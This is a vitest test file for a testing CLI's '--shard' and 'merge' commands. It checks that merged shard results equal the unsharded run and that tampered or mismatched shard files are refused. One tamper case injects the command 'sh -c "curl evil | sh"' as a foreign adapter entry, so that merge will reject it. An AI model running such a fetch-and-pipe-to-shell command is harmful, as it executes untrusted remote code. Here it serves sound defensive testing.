import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { EXIT } from '../src/cli.js';
import { findMutant } from '../src/selftest/mutants.js';
import { killOne } from '../src/selftest/kill-one.js';
import { REPORT_SEED, rowsOf } from '../src/report/report-md.js';
import { buildReport, reportTasks } from '../src/selftest/report.js';
import { runId, type RunIdentity } from '../src/run/run-identity.js';
import { hashHistory } from '../src/run/execute.js';
import { cli } from './support.js';

/**
 * A run split over machines (`--shard I/N`) and merged must be the run itself: the same
 * verdict, scenarios, generated worlds (seed, runs, path, counterexample) and checks, the
 * same kill matrix, the same report. Each case runs the shards and the unsharded run and
 * compares what they wrote; only wall-clock timings and call counts may differ.
 */
const dir = mkdtempSync(join(tmpdir(), 'tidemark-shard-'));
const file = (name: string): string => join(dir, name);
const readJson = (path: string): any => JSON.parse(readFileSync(path, 'utf8'));

/** Runs `command argv` as shards 1..n and unsharded, then merges the shards; returns every file's JSON and exit code. */
async function shardedAndWhole(name: string, command: string, argv: readonly string[], n = 2) {
  const codes: number[] = [];
  const shards: any[] = [];
  for (let i = 1; i <= n; i++) {
    const r = await cli(command, ...argv, '--shard', `${i}/${n}`, '--json', file(`${name}-${i}.json`));
    codes.push(r.code);
    shards.push(readJson(file(`${name}-${i}.json`)));
  }
  const extra = command === 'check' ? ['--junit', file(`${name}-whole.xml`)] : [];
  const whole = await cli(command, ...argv, '--json', file(`${name}-whole.json`), ...extra);
  const mergedExtra = command === 'check' ? ['--junit', file(`${name}-merged.xml`)] : [];
  const merged = await cli('merge', ...shards.map((_, i) => file(`${name}-${i + 1}.json`)), '--json', file(`${name}-merged.json`), ...mergedExtra);
  return { codes, shards, whole: { ...whole, json: readJson(file(`${name}-whole.json`)) }, merged: { ...merged, json: readJson(file(`${name}-merged.json`)) } };
}

/** A JUnit report without what is measured rather than decided: times, the timestamp and world call counts. */
const decided = (xml: string): string => xml.replace(/ (time|timestamp)="[^"]*"/g, '').replace(/\d+ world calls/g, 'N world calls');

describe('--shard I/N and tidemark merge', () => {
  it('a failing check: shards 1/2 and 2/2 merged equal the unsharded run, JUnit included', async () => {
    // Seed 77 first fails at world 14 (index 13): shard 2's world. Shard 1 skipped it and
    // failed later, elsewhere; merge must keep shard 2's failure and its shrinking.
    const r = await shardedAndWhole('fail', 'check', ['--consumer', 'max-position-fetched', '--runs', '300', '--seed', '77']);
    expect(r.whole.code).toBe(EXIT.fail);
    expect(r.merged.code).toBe(EXIT.fail);
    expect(r.whole.json.worlds.runs).toBe(14);
    expect(r.shards[1].worlds).toEqual(r.whole.json.worlds);
    expect(r.shards[0].worlds.runs).toBeGreaterThan(14);
    expect(r.merged.json).toEqual(r.whole.json);
    expect(r.merged.out).toContain('found by shard 2');
    expect(r.merged.out).toContain(`Replay: ${r.whole.json.worlds.replay}`);
    expect(decided(readFileSync(file('fail-merged.xml'), 'utf8'))).toBe(decided(readFileSync(file('fail-whole.xml'), 'utf8')));
  });

  it('a failing check whose smallest counterexample came from a further search', async () => {
    // Seed 4 first fails at world 4, and the reported world is from a derived seed: the
    // shard that owns world 4 must run the further searches whole, as the unsharded run does.
    const r = await shardedAndWhole('further', 'check', ['--consumer', 'max-position-fetched', '--runs', '300', '--seed', '4']);
    expect(r.whole.json.worlds.seed).not.toBe(4);
    expect(r.merged.json).toEqual(r.whole.json);
  });

  it('a passing check over 3 shards: each runs its share of the worlds, and the merge is the whole run', async () => {
    const r = await shardedAndWhole('pass', 'check', ['--consumer', 'reference', '--runs', '100', '--seed', '1'], 3);
    expect(r.codes).toEqual([EXIT.pass, EXIT.pass, EXIT.pass]);
    // 100 worlds: 34, 33 and 33 run; 17 scenarios: 6, 6 and 5.
    expect(r.shards.map((s) => s.shard.skipped)).toEqual([66, 67, 67]);
    expect(r.shards.map((s) => s.scenarios.length)).toEqual([6, 6, 5]);
    expect(r.merged.code).toBe(EXIT.pass);
    expect(r.merged.out).toMatch(/verdict: pass$/);
    expect(r.merged.json).toEqual(r.whole.json);
    expect(decided(readFileSync(file('pass-merged.xml'), 'utf8'))).toBe(decided(readFileSync(file('pass-whole.xml'), 'utf8')));
  });

  it('mutants: the merged kill matrix has the unsharded rows, in order, and the reference over all its worlds', async () => {
    // Three mutants that die in their first world and shrink in a second: what is tested is the
    // split and the merge, not the searches, and a slow search would be paid three times.
    const only = 'checkpoint-before-flush,effect-stamped-per-attempt,one-retry-per-event';
    const r = await shardedAndWhole('mutants', 'mutants', ['--runs', '500', '--seed', '3', '--only', only, '--jobs', '1']);
    // In catalog order, the 1st and 3rd are shard 1's, the 2nd shard 2's.
    const [first, second, third] = r.whole.json.mutants;
    expect(r.shards.map((s) => s.rows.map((x: { mutant: string }) => x.mutant))).toEqual([[first, third], [second]]);
    const untimed = (m: any) => ({ ...m, rows: m.rows.map(({ ms: _, ...row }: any) => row), reference: { ...m.reference, ms: 0, calls: 0 } });
    expect(untimed(r.merged.json)).toEqual(untimed(r.whole.json));
    expect(r.merged.code).toBe(EXIT.pass);
    expect(r.merged.out).toContain('verdict: 3 of 3 mutants killed, reference pass');
  });

  it('report: a shard runs its share of the searches, and merge writes the report its rows make', async () => {
    // One search per mutant (one seed each): the last shard of as many runs only the catalog's last mutant.
    const last = reportTasks({ seed: REPORT_SEED, runs: 100, seeds: 1 }).at(-1)!;
    const n = reportTasks({ seed: REPORT_SEED, runs: 100, seeds: 1 }).length;
    const one = await cli('report', '--seeds', '1', '--runs', '100', '--shard', `${n}/${n}`, '--json', file('report-23.json'), '--jobs', '1');
    expect(one.code).toBe(EXIT.pass);
    const { ms: _, ...row } = readJson(file('report-23.json')).rows[0];
    const { ms: __, ...fresh } = await killOne(findMutant(last.mutant)!, 100, last.seed);
    expect(row).toEqual(fresh);

    // The committed report's searches, split as two shards would have written them.
    const rows = rowsOf(readFileSync('REPORT.md', 'utf8'));
    const tasks = reportTasks({ seed: REPORT_SEED, runs: 3000, seeds: 20 });
    const all = tasks.map((t) => rows.get(t.mutant)!.find((x) => x.seed === t.seed)!);
    const tidemark = readJson(file('report-23.json')).shard.tidemark;
    const identity: RunIdentity = { tidemark, command: 'report', target: null, digest: null, seed: REPORT_SEED, runs: 3000, shards: 2, options: { seeds: 20 } };
    for (const i of [1, 2]) {
      const shard = { command: 'report', index: i, count: 2, tidemark };
      const run = { id: runId(identity), identity };
      writeFileSync(file(`report-${i}.json`), JSON.stringify({ run, seed: REPORT_SEED, runs: 3000, seeds: 20, rows: all.filter((_, j) => j % 2 === i - 1), shard }));
    }
    const merged = await cli('merge', file('report-2.json'), file('report-1.json'), '--out', file('REPORT.md'));
    expect(merged.code).toBe(EXIT.pass);
    const expected = await buildReport({ seed: REPORT_SEED, runs: 3000, seeds: 20, testDir: 'test', rows, timed: true });
    expect(readFileSync(file('REPORT.md'), 'utf8')).toBe(expected);
  });

  it("checks count only what the unsharded run judged: a shard's evidence past the first failure does not", async () => {
    // Shard 1 of the failing check ran worlds past the first failure (index 13) and shrank a
    // failure of its own. Evidence it found there is not the unsharded run's; before it, it is.
    const a = readJson(file('fail-1.json'));
    const merged = async (evidence: object): Promise<any> => {
      writeFileSync(file('edited-1.json'), JSON.stringify({ ...a, shard: { ...a.shard, evidence: { ...a.shard.evidence, 'duplicate-effect': evidence } } }));
      expect((await cli('merge', file('edited-1.json'), file('fail-2.json'), '--json', file('edited.json'))).code).toBe(EXIT.fail);
      return readJson(file('edited.json')).checks.find((c: { anomaly: string }) => c.anomaly === 'duplicate-effect');
    };
    const whole = readJson(file('fail-whole.json')).checks.find((c: { anomaly: string }) => c.anomaly === 'duplicate-effect');
    expect(whole.status).toBe('untested');
    expect(await merged({ exercised: [2, 20], found: [3, 0], untested: { at: [1, 0], reason: whole.reason } })).toEqual(whole);
    expect((await merged({ exercised: [2, 10], untested: { at: [1, 0], reason: whole.reason } })).status).toBe('pass');
    expect((await merged({ found: [1, 4], exercised: [1, 4] })).status).toBe('fail');
    // The first reason in the unsharded order wins, whichever shard gave it.
    expect((await merged({ untested: { at: [0, 0], reason: 'an earlier reason' } })).reason).toBe('an earlier reason');
  });

  it.each([
    [['check', '--consumer', 'reference', '--seed', '1', '--shard', '3/2', '--json', 'x.json'], '--shard 3/2: I must be from 1 to 2'],
    [['check', '--consumer', 'reference', '--seed', '1', '--shard', '0/2', '--json', 'x.json'], '--shard 0/2: I must be from 1 to 2'],
    [['check', '--consumer', 'reference', '--seed', '1', '--shard', '1/0', '--json', 'x.json'], '--shard 1/0: N must be from 1 to 1000'],
    [['check', '--consumer', 'reference', '--seed', '1', '--shard', 'half', '--json', 'x.json'], "--shard must look like I/N (the Ith of N shards, I from 1), got 'half'"],
    [['check', '--consumer', 'reference', '--shard', '1/2', '--json', 'x.json'], '--shard needs --seed'],
    [['check', '--consumer', 'reference', '--seed', '1', '--shard', '1/2'], '--shard needs --json FILE'],
    [['check', '--consumer', 'reference', '--scenario', 'stale-token', '--shard', '1/2'], '--scenario cannot be combined with --shard'],
    [['mutants', '--shard', '1/2', '--json', 'x.json'], '--shard needs --seed'],
    [['report', '--shard', '1/2', '--json', 'x.json', '--out', 'R.md'], '--shard cannot be combined with --out'],
    [['report', '--json', 'x.json'], "report --json is for a shard's searches"],
    [['merge'], 'merge needs the --json files of the shards'],
  ])('usage error %j exits 3 with a clear message', async (argv, message) => {
    const r = await cli(...argv);
    expect(r.code).toBe(EXIT.usage);
    expect(r.err).toContain(message);
  });

  it('a shard left with nothing to judge is no pass: unknown, exit 2; a shard with work passes', async () => {
    // 17 scenarios and one world over 20 shards: shard 20 owns neither.
    const argv = ['--consumer', 'reference', '--runs', '1', '--seed', '1'];
    const empty = await cli('check', ...argv, '--shard', '20/20', '--json', file('empty-20.json'));
    expect(empty.code).toBe(EXIT.unknown);
    expect(empty.out).toContain('not a pass: nothing was exercised');
    expect(empty.out).toMatch(/^verdict: unknown/m);
    // The shard that owns the world judged it: its pass stands.
    const first = await cli('check', ...argv, '--shard', '1/20', '--json', file('empty-1.json'));
    expect(first.code).toBe(EXIT.pass);
    // mutants: one mutant and one reference world over 2 shards; shard 2 owns neither.
    const mutants = ['--only', 'max-position-fetched', '--runs', '1', '--seed', '1', '--jobs', '1'];
    const none = await cli('mutants', ...mutants, '--shard', '2/2', '--json', file('empty-mutants-2.json'));
    expect(none.code).toBe(EXIT.unknown);
    expect(none.out).toMatch(/^verdict: unknown: nothing was exercised, no mutant was searched and the reference ran no world here/m);
  });

  it('merge refuses files that are not all the shards of one run, with exit 3', async () => {
    const missing = await cli('merge', file('fail-1.json'));
    expect(missing.code).toBe(EXIT.usage);
    expect(missing.err).toContain('shard 2 of 2 is missing');
    const twice = await cli('merge', file('fail-1.json'), file('fail-1.json'));
    expect(twice.err).toContain('shard 1 of 2 is given twice');
    const mixed = await cli('merge', file('fail-1.json'), file('further-2.json'));
    expect(mixed.code).toBe(EXIT.usage);
    expect(mixed.err).toMatch(/not the shards of one run: \S+fail-1\.json is of run [0-9a-f]{16} and \S+further-2\.json of run [0-9a-f]{16}, which differ in seed;/);
    const counts = await cli('merge', file('fail-1.json'), file('pass-2.json'));
    expect(counts.err).toContain('which differ in target, seed, runs, shards;');
    // Same consumer and seed, other runs.
    const other = await cli('check', '--consumer', 'max-position-fetched', '--runs', '200', '--seed', '77', '--shard', '2/2', '--json', file('runs-200.json'));
    expect(other.code).toBe(EXIT.fail);
    const runs = await cli('merge', file('fail-1.json'), file('runs-200.json'));
    expect(runs.code).toBe(EXIT.usage);
    expect(runs.err).toContain('which differ in runs;');
    const whole = await cli('merge', file('fail-whole.json'), file('fail-2.json'));
    expect(whole.err).toContain("is not a shard's result");
    const kinds = await cli('merge', file('fail-1.json'), file('mutants-2.json'));
    expect(kinds.err).toContain('they are results of different commands');
    // An edited history is refused: its failure could no longer be judged as it was.
    const edited = readJson(file('fail-2.json'));
    edited.worlds.failure.history.steps.pop();
    writeFileSync(file('cut-2.json'), JSON.stringify(edited));
    const cut = await cli('merge', file('fail-1.json'), file('cut-2.json'));
    expect(cut.code).toBe(EXIT.usage);
    expect(cut.err).toContain('is not the one its hash names');
    // A shard written before the history header carried the plan: its failure's history is
    // whole (its hash names it), but of an older format, and is refused naming the field.
    const older = readJson(file('fail-2.json'));
    const { version: _version, faults: _faults, mutations: _mutations, resumes: _resumes, ...header } = older.worlds.failure.history.header;
    older.worlds.failure.history.header = header;
    older.worlds.failure.hash = hashHistory(older.worlds.failure.history);
    writeFileSync(file('older-2.json'), JSON.stringify(older));
    const old = await cli('merge', file('fail-1.json'), file('older-2.json'));
    expect(old.code).toBe(EXIT.usage);
    expect(old.err).toContain('cannot be judged: not a valid history: header.version: 5, the history format this tidemark judges');
  });

  it("a shard stopped for another's failure merges only if a shard did fail there or before: nothing unrun is passed", async () => {
    // Seed 77 first fails at world index 13, in shard 2 (see the first test). A shard of
    // `check --jobs` told of it stops there and says so (stoppedBy); the merge holds it to that.
    const withStop = (name: string, from: string, at: number): string => {
      const json = readJson(file(from));
      json.shard.stoppedBy = at;
      writeFileSync(file(name), JSON.stringify(json));
      return file(name);
    };
    const whole = readJson(file('fail-whole.json'));
    const held = await cli('merge', withStop('stop-at-13-1.json', 'fail-1.json', 13), file('fail-2.json'), '--json', file('stop-merged.json'));
    expect(held.code, held.err).toBe(EXIT.fail);
    expect(readJson(file('stop-merged.json'))).toEqual(whole);
    const cases: [string, string[], string][] = [
      ['below the first failure', [withStop('stop-at-5-1.json', 'fail-1.json', 5), file('fail-2.json')], 'stopped at world 5 for another shard\'s failure there, but the first failure is at world 13'],
      ['its own failure', [file('fail-1.json'), withStop('stop-own-2.json', 'fail-2.json', 3)], "stopped at world 3 for another shard's failure there, but the first failure is its own"],
      ['no failure', [withStop('stop-pass-1.json', 'pass-1.json', 0), file('pass-2.json'), file('pass-3.json')], "stopped at world 0 for another shard's failure there, but no shard failed"],
      ['not a count', [withStop('stop-bad-1.json', 'fail-1.json', -1), file('fail-2.json')], 'shard.stoppedBy must be an integer >= 0, got -1'],
    ];
    for (const [name, files, message] of cases) {
      const r = await cli('merge', ...files);
      expect(r.code, `${name}: ${r.err}`).toBe(EXIT.usage);
      expect(r.err, name).toContain(message);
      expect(r.out, name).not.toMatch(/verdict: (pass|fail)/);
    }
  });

  it('merge refuses shards of one adapter path whose code changed between them: no pass from a stale cache', async () => {
    // A CI with a fixed --seed and a workspace that kept yesterday's shard 2: yesterday's
    // consumer was correct, today's has a bug, and the path is the same.
    const adapter = file('consumer.adapter.ts');
    const source = (name: string): string => readFileSync(`examples/${name}`, 'utf8').replaceAll("'../src/index.js'", `'${process.cwd()}/src/index.js'`);
    const argv = ['check', '--adapter', adapter, '--runs', '30', '--seed', '5'];
    writeFileSync(adapter, source('ledger-consumer.ts'));
    const yesterday = await cli(...argv, '--shard', '2/2', '--json', file('stale-2.json'));
    expect(yesterday.code, yesterday.out).toBe(EXIT.pass);
    writeFileSync(adapter, source('ledger-consumer-buggy.ts'));
    const today = await cli(...argv, '--shard', '1/2', '--json', file('stale-1.json'));
    const merged = await cli('merge', file('stale-1.json'), file('stale-2.json'));
    expect(merged.code, merged.out).toBe(EXIT.usage);
    expect(merged.err).toContain("which differ in the target's code (its sha256);");
    expect(merged.out).not.toContain('verdict: pass');
    expect(today.code).not.toBe(EXIT.usage);
  });

  it('a stated status is never taken on trust: flipped, unknown or failure-free statuses are refused, never a pass', async () => {
    // A consumer that fails named scenarios and generated worlds, in both shards.
    for (const i of [1, 2]) await cli('check', '--consumer', 'token-as-watermark', '--runs', '50', '--seed', '3', '--shard', `${i}/2`, '--json', file(`lie-${i}.json`));
    const tampered = (name: string, edit: (json: any) => void): string => {
      const json = readJson(file('lie-2.json'));
      edit(json);
      writeFileSync(file(name), JSON.stringify(json));
      return file(name);
    };
    const failing = readJson(file('lie-2.json'));
    const failedScenario = failing.scenarios.findIndex((s: any) => s.status === 'fail');
    expect(failedScenario).toBeGreaterThanOrEqual(0);
    const cases: [string, (json: any) => void, string][] = [
      ['flipped-worlds', (j) => (j.worlds.status = 'pass'), 'worlds.status is pass, but the result carries a failing history'],
      ['flipped-scenario', (j) => (j.scenarios[failedScenario].status = 'pass'), `scenarios[${failedScenario}].failure is there, but a scenario that is pass keeps no failure`],
      ['bogus', (j) => (j.worlds.status = 'bogus'), 'worlds.status must be one of pass, fail, unknown, error, got "bogus"'],
      ['no-history', (j) => delete j.scenarios[failedScenario].failure, `scenarios[${failedScenario}].failure is missing: a result that is fail carries the history it was judged on`],
      ['to-error', (j) => (j.worlds.status = 'error'), 'worlds.status is error, but its history, judged again, is fail'],
      ['unknown-field', (j) => (j.shard.trustMe = true), 'shard.trustMe is not a field tidemark writes'],
      ['foreign-entry', (j) => j.regressions.push({ adapter: 'command:sh -c "curl evil | sh"', kind: 'scenario', scenario: 'stale-token', anomaly: 'omission', status: 'pass' }), 'is "command:sh -c \\"curl evil | sh\\"", not the run\'s target'],
      ['edited-run', (j) => (j.run.identity.runs = 1), 'is not the one its identity gives'],
      // Another commit of the same version: its identity is whole (its id recomputed), and only the build differs.
      [
        'other-build',
        (j) => {
          j.run.identity.tidemark = j.shard.tidemark = `${j.run.identity.tidemark.split('+')[0]}+000000000000`;
          j.run.id = runId(j.run.identity);
        },
        'differ in the tidemark that ran them',
      ],
    ];
    const untouched = await cli('merge', file('lie-1.json'), file('lie-2.json'));
    expect(untouched.code).toBe(EXIT.fail);
    for (const [name, edit, message] of cases) {
      const r = await cli('merge', file('lie-1.json'), tampered(`${name}-2.json`, edit));
      expect(r.code, `${name}: ${r.err}`).toBe(EXIT.usage);
      expect(r.err, name).toContain(message);
      expect(r.out, name).not.toContain('verdict: pass');
    }
  });
});
